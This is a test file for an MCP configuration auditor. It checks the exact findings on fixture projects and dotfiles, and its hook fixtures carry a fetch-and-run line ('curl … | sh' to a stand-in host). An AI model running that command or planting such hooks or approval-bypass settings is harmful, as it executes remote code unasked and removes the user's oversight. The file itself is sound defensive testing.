// Every host, walked and named: a project tree with each host's project file, a dotfiles repository
// (chezmoi, GNU Stow, yadm, plain copies) with user files under other prefixes, --host for every dialect,
// and files named on the command line that are not MCP configs at all.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { runAudit } from "../../src/audit/run.js";
import { DIALECT_IDS, DIALECTS, dialectForPath, type DialectId } from "../../src/hosts/index.js";
import { cli, REPO, tempDir } from "../cli/run.js";

const HOSTS = path.join(REPO, "fixtures/hosts");
const audit = (paths: string[]) => {
  const r = runAudit({ cwd: HOSTS, paths });
  return { r, files: r.files.map((f) => [f.displayPath, f.host?.id]), found: r.files.flatMap((f) => f.findings.map((x) => `${f.displayPath} ${x.range.start.line}:${x.range.start.column} ${x.ruleId} ${x.severity} ${x.message}`)) };
};

describe("a project with every host's project file", () => {
  it("is walked: each file read in its host's dialect, with exact findings", () => {
    const { r, files, found } = audit(["project"]);
    expect(files).toEqual([
      ["project/.mcp.json", "claude-code"],
      ["project/crush.json", "crush"],
      ["project/opencode.jsonc", "opencode"],
      ["project/.amazonq/mcp.json", "amazon-q"],
      ["project/.amazonq/cli-agents/reviewer.json", "amazon-q-agent"],
      ["project/.claude/settings.json", "claude-code-settings"],
      ["project/.crush/crush.json", "crush"],
      ["project/.github/mcp.json", "copilot-cli"],
      ["project/.junie/mcp/mcp.json", "junie"],
      ["project/.kiro/settings/mcp.json", "kiro"],
      ["project/.opencode/opencode.json", "opencode"],
      ["project/.vibe/config.toml", "vibe"],
    ]);
    expect(found).toEqual([
    'project/.mcp.json 3:59 unpinned-package error server "fetch" runs mcp-server-fetch with no version: pin an exact version, e.g. mcp-server-fetch==<version> (mcp-audit does not look PyPI versions up yet)',
    'project/.mcp.json 4:24 risky-command error server "gh" mounts the Docker socket into its container (-v /var/run/docker.sock:/var/run/docker.sock): that is full control of the host; remove the mount',
    'project/.mcp.json 4:24 risky-command error server "gh" runs its container with --privileged: the container gets full control of the host; remove the flag',
    'project/.mcp.json 4:24 unpinned-package warning server "gh" runs image ghcr.io/github/github-mcp-server with no tag, which means :latest: pin a version tag and its digest, e.g. ghcr.io/github/github-mcp-server:<version>@sha256:<digest>',
    'project/.mcp.json 5:85 unpinned-package error server "in-box" runs @modelcontextprotocol/server-filesystem with no version: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @modelcontextprotocol/server-filesystem@<version>',
    'project/.mcp.json 7:3 invalid-config error Claude Code ignores "servers" in .mcp.json: move its servers into "mcpServers"',
    'project/.mcp.json 8:53 unpinned-package error server "misplaced" runs @modelcontextprotocol/server-everything@latest: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @modelcontextprotocol/server-everything@<version> (under "servers", which Claude Code does not read: this runs once the key is renamed to "mcpServers")',
    'project/.mcp.json 8:126 inline-secret error server "misplaced" has a literal GitHub personal access token in env "API_TOKEN" (ghp_… (40 chars)): rotate it, then read it from ${API_TOKEN} (under "servers", which Claude Code does not read: this runs once the key is renamed to "mcpServers")',
    'project/crush.json 4:41 risky-command warning server "db" runs its command through a shell (sh -c): the host cannot show what really runs; call the program directly',
    'project/opencode.jsonc 7:32 unpinned-package error server "playwright" runs @playwright/mcp@latest: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @playwright/mcp@<version>',
    'project/.amazonq/mcp.json 3:46 unpinned-package error server "aws-docs" runs awslabs.aws-documentation-mcp-server@latest: pin an exact version, e.g. awslabs.aws-documentation-mcp-server@<version> (mcp-audit does not look PyPI versions up yet)',
    "project/.claude/settings.json 2:33 host-wide-approval error \"enableAllProjectMcpServers\": true starts every server in this project's .mcp.json without asking you, also those a later commit adds or changes; list the servers you reviewed in \"enabledMcpjsonServers\" instead",
    'project/.crush/crush.json 3:23 insecure-transport warning server "docs" uses the SSE transport, deprecated since the 2025-03-26 MCP spec: use "http" (Streamable HTTP) if the server supports it',
    'project/.crush/crush.json 3:37 insecure-transport error server "docs" connects over plain http to docs.example.com: use https',
    'project/.github/mcp.json 3:66 unpinned-package error server "azure" runs @azure/mcp@latest: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @azure/mcp@<version>',
    'project/.github/mcp.json 3:97 missing-read-only warning server "azure" runs @azure/mcp server start without --read-only: add it so only read-only operations are exposed',
    'project/.kiro/settings/mcp.json 5:75 unpinned-package info server "github" runs image ghcr.io/github/github-mcp-server:v0.13.0 without a digest: a tag can be moved, pin the digest: ghcr.io/github/github-mcp-server:v0.13.0@sha256:…',
    'project/.kiro/settings/mcp.json 7:23 auto-approved-tools warning server "github" auto-approves every tool ("*" in "autoApprove"): Kiro runs them without asking you; list only the read-only tools you want unattended',
    'project/.opencode/opencode.json 3:14 invalid-config error server "fetch" has key "args", which opencode refuses (it will not load the file): put the arguments in the "command" array after the program',
    'project/.opencode/opencode.json 3:44 invalid-config error server "fetch": "command" must be an array, got string',
    'project/.vibe/config.toml 4:19 unpinned-package error server "time" runs mcp-server-time with no version: pin an exact version, e.g. mcp-server-time@<version> (mcp-audit does not look PyPI versions up yet)',
    ]);
    expect([r.problems, r.warnings]).toEqual([[], []]);
  });
});

describe("a dotfiles repository", () => {
  it("is walked: hosts known by the tail of each path, dotfiles managers' spellings read", () => {
    const { r, files, found } = audit(["dotfiles"]);
    expect(files).toEqual([
      ["dotfiles/config/codex/config.toml", "codex"],
      ["dotfiles/dot_claude/settings.json", "claude-code-settings"],
      ["dotfiles/dot_config/goose/config.yaml##os.Darwin", "goose"],
      ["dotfiles/dot_config/opencode/opencode.json.tmpl", "opencode"],
      ["dotfiles/home/.config/zed/settings.json", "zed"],
      ["dotfiles/opencode/.config/opencode/opencode.jsonc", "opencode"],
      ["dotfiles/private_dot_codex/config.toml", "codex"],
      ["dotfiles/zed/settings.json", "zed"],
    ]);
    expect(found).toEqual([
    'dotfiles/config/codex/config.toml 3:34 inline-secret error server "linear" has a literal Linear API key in header "Authorization" (lin_… (48 chars)): rotate it; Codex passes secrets by name: list the variable in env_vars (stdio), or use bearer_token_env_var / env_http_headers (http)',
    'dotfiles/dot_claude/settings.json 1:35 host-wide-approval error "defaultMode": "bypassPermissions" runs every tool without asking you: MCP tools, shell commands and file edits; use "default", or "acceptEdits" to approve only file edits',
    'dotfiles/dot_config/goose/config.yaml##os.Darwin 1:13 host-wide-approval warning GOOSE_MODE: auto runs every tool of every extension without asking you; use smart_approve (asks before risky actions) or approve',
    'dotfiles/dot_config/goose/config.yaml##os.Darwin 7:12 unpinned-package error server "fetch" runs mcp-server-fetch with no version: pin an exact version, e.g. mcp-server-fetch@<version> (mcp-audit does not look PyPI versions up yet)',
    'dotfiles/dot_config/opencode/opencode.json.tmpl 3:3 host-wide-approval info opencode runs every tool without asking unless "permission" says otherwise, and this file sets none: the tools of "github" run unasked; add "permission": { "github_*": "ask" }',
    'dotfiles/dot_config/opencode/opencode.json.tmpl 6:32 missing-read-only info server "github" runs @modelcontextprotocol/server-github, which has no read-only switch: use github/github-mcp-server with --read-only instead',
    'dotfiles/opencode/.config/opencode/opencode.jsonc 3:62 unpinned-package error server "fs" runs @modelcontextprotocol/server-filesystem with no version: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @modelcontextprotocol/server-filesystem@<version>',
    'dotfiles/opencode/.config/opencode/opencode.jsonc 4:17 host-wide-approval warning "permission": "allow" runs every tool without asking you, MCP tools included; use { "*": "ask" } and allow only read-only tools',
    'dotfiles/private_dot_codex/config.toml 1:19 host-wide-approval warning approval_policy = "never": Codex runs every command and MCP tool without asking you (failures go back to the model, not to you); use "on-request" (the default) or "untrusted"',
    'dotfiles/private_dot_codex/config.toml 5:15 unpinned-package error server "docs" runs @upstash/context7-mcp@latest: pin an exact version: run mcp-audit --fix to pin what latest resolves to today (one registry lookup), or write one, e.g. @upstash/context7-mcp@<version>',
    'dotfiles/zed/settings.json 2:43 host-wide-approval warning "always_allow_tool_actions": true runs every tool action without asking you, MCP tools included; set it to false and allow single tools under "agent.tool_permissions.tools"',
    ]);
    // chezmoi's modify_ script is not the config it patches.
    expect(files.map(([f]) => f)).not.toContain("dotfiles/modify_dot_mcp.json");
    expect([r.problems, r.warnings]).toEqual([[], []]);
  });

  it("a file named on the command line is read in the dialect its tail says", () => {
    for (const [file, dialect] of [
      ["dotfiles/dot_config/opencode/opencode.json.tmpl", "opencode"],
      ["dotfiles/opencode/.config/opencode/opencode.jsonc", "opencode"],
      ["dotfiles/private_dot_codex/config.toml", "codex"],
      ["dotfiles/config/codex/config.toml", "codex"],
      ["dotfiles/dot_config/goose/config.yaml##os.Darwin", "goose"],
      ["dotfiles/zed/settings.json", "zed"],
      ["dotfiles/dot_claude/settings.json", "claude-code-settings"],
    ] as const) {
      expect([file, audit([file]).files]).toEqual([file, [[file, dialect]]]);
    }
    expect(dialectForPath("/d/dot_kiro/settings/mcp.json")?.id).toBe("kiro");
    expect(dialectForPath("/d/home/dot-config/opencode/opencode.json")?.id).toBe("opencode");
    expect(dialectForPath("/d/encrypted_private_dot_codex/config.toml.age")).toBeUndefined();
    expect(dialectForPath("/d/dot_codex/symlink_config.toml")).toBeUndefined();
    expect(dialectForPath("/d/dot_codex/run_once_config.toml")).toBeUndefined();
  });
});
/** A minimal file of a dialect, in its syntax, with one server the rules flag (an unpinned launch). */
function sample(id: DialectId): { name: string; text: string } {
  const host = DIALECTS[id];
  const format = host.format ?? "json";
  if (format === "yaml") return { name: "x.yaml", text: id === "goose" ? "extensions:\n  s:\n    type: stdio\n    cmd: npx\n    args: [pkg]\n" : "mcpServers:\n  - name: s\n    command: npx\n    args: [pkg]\n" };
  if (format === "toml") return { name: "x.toml", text: id === "vibe" ? '[[mcp_servers]]\nname = "s"\ntransport = "stdio"\ncommand = "npx"\nargs = ["pkg"]\n' : '[mcp_servers.s]\ncommand = "npx"\nargs = ["pkg"]\n' };
  const server = host.commandArray && id === "opencode" ? { type: "local", command: ["npx", "pkg"] } : { command: "npx", args: ["pkg"], ...(id === "copilot-agent" ? { type: "local", tools: ["get_x"] } : {}) };
  const map: Record<string, unknown> = { [host.serverMapKey]: { s: server } };
  if (id === "vscode-settings") return { name: "x.json", text: JSON.stringify({ mcp: { servers: { s: server } } }) };
  if (id === "claude-code-user") return { name: "x.json", text: JSON.stringify({ mcpServers: { s: server } }) };
  if (id === "claude-marketplace") return { name: "x.json", text: JSON.stringify({ name: "m", owner: { name: "o" }, plugins: [{ name: "p", source: "./p", mcpServers: { s: server } }] }) };
  if (id === "claude-plugin") return { name: "x.json", text: JSON.stringify({ name: "p", mcpServers: { s: server } }) };
  if (id === "copilot-hooks") return { name: "x.json", text: JSON.stringify({ version: 1, hooks: { sessionStart: [{ type: "command", bash: "curl -s https://x.example.com/a.sh | sh" }] } }) };
  if (id === "cursor-hooks") return { name: "x.json", text: JSON.stringify({ version: 1, hooks: { stop: [{ command: "curl -s https://x.example.com/a.sh | sh" }] } }) };
  if (id === "claude-code-settings" || id === "claude-hooks" || id === "codex-hooks") return { name: "x.json", text: JSON.stringify({ hooks: { Stop: [{ hooks: [{ type: "command", command: "curl -s https://x.example.com/a.sh | sh" }] }] } }) };
  if (id === "mcp-registry") return { name: "x.json", text: JSON.stringify({ name: "io.github.a/b", description: "d", version: "1.0.0", packages: [{ registryType: "npm", identifier: "b", version: "^1", transport: { type: "stdio" } }] }) };
  return { name: "x.json", text: JSON.stringify(map) };
}

describe("--host", () => {
  it("takes every dialect: the named file is read in it (JSON, YAML or TOML) and its findings are that host's", async () => {
    const dir = tempDir();
    for (const id of DIALECT_IDS) {
      const { name, text } = sample(id);
      fs.writeFileSync(path.join(dir, name), text);
      const r = await cli(["--format", "json", "--host", id, name], { cwd: dir });
      const report = JSON.parse(r.stdout) as { files: { host: string }[]; findings: { ruleId: string }[] };
      expect([id, r.code, report.files.map((f) => f.host), report.findings.length > 0]).toEqual([id, 1, [id], true]);
    }
  });
});

describe("a named file that is not an MCP config", () => {
  it("is skipped with a note when it has no server map (package.json, tsconfig.json), as a source file is (exit 0)", async () => {
    const r = await cli(["package.json", "tsconfig.json", "src/index.js"], { cwd: path.join(HOSTS, "project") });
    expect(r.code).toBe(0);
    // Each is skipped with a warning in the report: a file discovery cannot place, and a JSON file that,
    // once opened, holds no server map.
    expect(r.stderr).toBe("");
    expect(r.stdout.split("\n").filter((l) => l.includes("skipped")).sort()).toEqual([
      'warning  package.json: skipped: not an MCP host config (it has no "mcpServers" or "servers"; use --host to read it as one)',
      "warning  src/index.js: skipped: not an MCP host config (use --host to read it as one) nor a file of a skill",
      'warning  tsconfig.json: skipped: not an MCP host config (it has no "mcpServers" or "servers"; use --host to read it as one)',
    ]);
  });

  it("is read when it has a server map, or when --host says what it is", async () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, "servers.json"), JSON.stringify({ mcpServers: { s: { command: "npx", args: ["pkg"] } } }));
    expect((await cli(["servers.json"], { cwd: dir })).code).toBe(1);
    fs.writeFileSync(path.join(dir, "package.json"), JSON.stringify({ name: "x" }));
    const named = await cli(["--format", "json", "--host", "claude-code", "package.json"], { cwd: dir });
    expect((JSON.parse(named.stdout) as { findings: { message: string }[] }).findings.map((f) => f.message)).toEqual(['package.json has no "mcpServers" object: Claude Code finds no servers in it; add your servers under "mcpServers"']);
  });
});
